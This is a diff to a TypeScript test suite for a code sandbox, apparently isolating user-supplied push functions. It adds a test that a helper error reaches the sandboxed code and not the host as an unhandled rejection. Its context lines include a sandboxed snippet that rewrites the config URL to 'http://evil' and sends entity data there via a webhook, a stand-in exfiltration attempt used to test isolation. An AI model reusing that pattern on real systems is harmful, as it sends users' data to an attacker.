@@ -106,6 +106,24 @@ describe('sandbox', () => {
       sandbox.dispose()
     })
 
+    it('a helper error reaches the code, never the host as an unhandled rejection', async () => {
+      const unhandled: unknown[] = []
+      const onUnhandled = (reason: unknown) => void unhandled.push(reason)
+      process.on('unhandledRejection', onUnhandled)
+      try {
+        const code = 'async function push(e, c, h) { try { await h.sleep(-1) } catch (err) { h.log("caught " + err.message) } await h.sendWebhook(c.url, "nope") }'
+        const sandbox = await createSandbox({ code })
+        const r = recorder()
+        await expect(sandbox.push(ENTITIES, CONFIG, r.helpers)).rejects.toThrow(/must be an array/)
+        expect(r.logs[0]).toMatch(/^caught helpers.sleep/)
+        await new Promise((resolve) => setTimeout(resolve, 50))
+        expect(unhandled).toEqual([])
+        sandbox.dispose()
+      } finally {
+        process.off('unhandledRejection', onUnhandled)
+      }
+    })
+
     it('cannot change the config the host passed', async () => {
       const sandbox = await createSandbox({ code: 'async function push(e, c, h) { c.url = "http://evil"; await h.sendWebhook(c.url, e) }' })
       const r = recorder()
